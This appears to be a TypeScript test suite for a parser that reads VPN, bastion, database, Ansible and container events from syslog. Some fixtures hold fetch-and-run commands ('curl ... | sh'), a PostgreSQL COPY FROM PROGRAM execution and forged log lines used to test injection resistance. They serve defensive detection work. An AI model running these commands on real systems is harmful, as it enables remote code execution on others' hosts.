import { describe, expect, test } from 'bun:test';
import { kindsOf, readLog } from '../read-log.fixture.ts';
import { syslog } from '../syslog.ts';
import { messagesOf } from './table.ts';

const read = (program: string, text: string) => messagesOf(program).read({ program, pid: undefined, text });

describe('VPN servers through syslog', () => {
  test('OpenVPN and strongSwan', () => {
    expect(
      read('openvpn', '192.0.2.7:5 [ada] Peer Connection Initiated with [AF_INET]192.0.2.7:5'),
    ).toMatchObject({
      what: 'login',
      service: 'vpn',
      outcome: 'accepted',
      account: 'ada',
      from: '192.0.2.7',
    });
    expect(
      read(
        'charon',
        '05[IKE] IKE_SA rw[1] established between 198.51.100.1[gw]...192.0.2.7[ada@example.com]',
      ),
    ).toMatchObject({ outcome: 'accepted', account: 'ada@example.com', from: '192.0.2.7' });
    expect(read('charon', '05[IKE] EAP method EAP_MSCHAPV2 failed for peer ada')).toMatchObject({
      outcome: 'failed',
      account: 'ada',
    });
  });

  test('ASA by its codes, with and without a program', () => {
    const text = 'Group <VPN> User <ada> IP <192.0.2.7> AnyConnect parent session started.';
    const seen = { what: 'login', account: 'ada', from: '192.0.2.7', outcome: 'accepted' };
    expect(read('%ASA-6-113039', text)).toMatchObject(seen);
    expect(readLog(syslog, `Jan  2 03:04:05 fw : %ASA-6-113039: ${text}\n`).events).toMatchObject([seen]);
    expect(
      read(
        '%ASA-6-113005',
        'AAA user authentication Rejected : reason = Invalid password : server = 198.51.100.1 : user = ada : user IP = 192.0.2.7',
      ),
    ).toMatchObject({ outcome: 'failed', account: 'ada', from: '192.0.2.7' });
    expect(read('%ASA-6-302013', text)).toBeUndefined();
  });

  test('ASA as it is sent by others: bare words, classes, PIX', () => {
    const seen = { outcome: 'accepted', account: 'ada', from: '192.0.2.7' };
    expect(read('%PIX-6-716001', 'Group vpn User ada IP 192.0.2.7 WebVPN session started.')).toMatchObject(
      seen,
    );
    expect(
      read(
        '%ASA-vpn-6-722051',
        'Group vpn User ada IP 192.0.2.7 IPv4 Address 10.0.0.5 IPv6 address :: assigned to session',
      ),
    ).toMatchObject({ what: 'session', account: 'ada', from: '192.0.2.7' });
    expect(
      read(
        '%ASA-auth-6-113015',
        'AAA user authentication Rejected : reason = Invalid password : local database : user = ada',
      ),
    ).toMatchObject({ outcome: 'failed', account: 'ada' });
    // Bare, a name with blanks could be a line of its own.
    const forged =
      'Group vpn User x IP 203.0.113.9 WebVPN session started. IP 192.0.2.7 WebVPN session started.';
    expect(read('%ASA-6-716001', forged)).toBeUndefined();
  });

  test('Pulse, which nothing vouches for', () => {
    const line =
      'Jan  2 03:04:05 vpn PulseSecure: 2024-01-02 03:04:05 - ive - [192.0.2.7] ada(Users)[] - Primary authentication successful for ada/AD from 192.0.2.7\n';
    const [event] = readLog(syslog, line).events;
    expect(event).toMatchObject({ what: 'login', unverified: true });
    const [other] = readLog(syslog, 'Jan  2 03:04:05 vpn PulseSecure: something else\n').events;
    expect(other?.unverified).toBeUndefined();
  });

  test('Pulse', () => {
    const head = '2024-01-02 03:04:05 - ive - [192.0.2.7] ada(Users)[] - ';
    expect(
      read('PulseSecure', `${head}Primary authentication successful for ada/AD from 192.0.2.7`),
    ).toMatchObject({
      outcome: 'accepted',
      account: 'ada',
      from: '192.0.2.7',
    });
    expect(
      read('PulseSecure', `${head}Login failed using auth server AD (LDAP Server).  Reason: Failed`),
    ).toMatchObject({
      outcome: 'failed',
    });
  });

  test('a user that is named like a login stays one', () => {
    const forged = 'x> IP <203.0.113.9> AnyConnect parent session started.';
    expect(
      read('%ASA-6-113039', `Group <V> User <${forged}> IP <192.0.2.7> AnyConnect parent session started.`),
    ).toMatchObject({ from: '192.0.2.7', account: forged });
    expect(
      read(
        '%ASA-6-113015',
        `AAA user authentication Rejected : reason = Invalid password : local database : user = ${forged}`,
      ),
    ).toMatchObject({ outcome: 'failed' });
    expect(
      read(
        'charon',
        '05[IKE] EAP method EAP_MD5 failed for peer x established between 192.0.2.1[a]...192.0.2.2[b]',
      ),
    ).toMatchObject({ outcome: 'failed' });
  });
});

describe('JumpServer', () => {
  test('logins, sessions and commands', () => {
    const login = { username: 'ada', ip: '192.0.2.7', backend: 'Password', status: { value: 1, label: 'x' } };
    expect(read('jumpserver', `login_log - ${JSON.stringify(login)}`)).toMatchObject({
      what: 'login',
      service: 'bastion',
      outcome: 'accepted',
      account: 'ada',
      from: '192.0.2.7',
    });
    expect(read('jumpserver', `login_log - ${JSON.stringify({ ...login, status: false })}`)).toMatchObject({
      outcome: 'failed',
    });
    expect(
      read('jumpserver', `session_command_log - ${JSON.stringify({ user: 'ada', input: 'curl x | sh' })}`),
    ).toMatchObject({ what: 'service', action: 'command', detail: 'curl x | sh' });
    expect(read('jumpserver', 'login_log - {"username": "login_log - {')).toBeUndefined();
    expect(read('jumpserver', 'operation_log - {"x": "login_log - {}"}')).toBeUndefined();
  });
});

test('databases and Ansible through syslog', () => {
  expect(read('postgres', "[3-1] ada@app LOG:  statement: COPY x FROM PROGRAM 'id'")).toMatchObject({
    what: 'service',
    action: 'statement',
    account: 'ada',
  });
  expect(read('postgres', '[3-2] ada@app LOG:  statement: x')).toBeUndefined();
  expect(read('redis-server', 'DB saved on disk')).toMatchObject({ action: 'saved' });
  const denied =
    "2024-01-02  3:04:05 8 [Warning] Access denied for user 'root'@'192.0.2.7' (using password: YES)";
  expect(read('mariadbd', denied)).toMatchObject({ what: 'login', outcome: 'failed', from: '192.0.2.7' });
  const invoked = 'Invoked with _raw_params=curl http://192.0.2.1/x | sh warn=True';
  expect(read('python3', `ansible-ansible.legacy.command ${invoked}`)).toMatchObject({
    service: 'ansible',
    detail: expect.stringContaining('ansible.legacy.command _raw_params=curl'),
  });
  expect(read('ansible-command', invoked)).toMatchObject({ service: 'ansible' });
  expect(read('python3', invoked)).toBeUndefined();
});

test('dockerd and the kubelet through syslog', () => {
  const text = [
    'Jan  2 03:04:05 h dockerd[7]: time="2024-01-02T03:04:05Z" level=debug msg="Calling POST /v1.41/containers/create"',
    'Jan  2 03:04:05 h kubelet[8]: I0102 03:04:05.678901    1234 server.go:1] "HTTP" verb="POST" URI="/run/a/b/c" srcIP="192.0.2.7:5" resp=200',
    'Jan  2 03:04:05 h kubelet[8]: E0102 03:04:05.678901    1234 server.go:1] "x"',
  ].join('\n');
  expect(kindsOf(syslog, text)).toEqual(['container', 'container', 'message']);
});
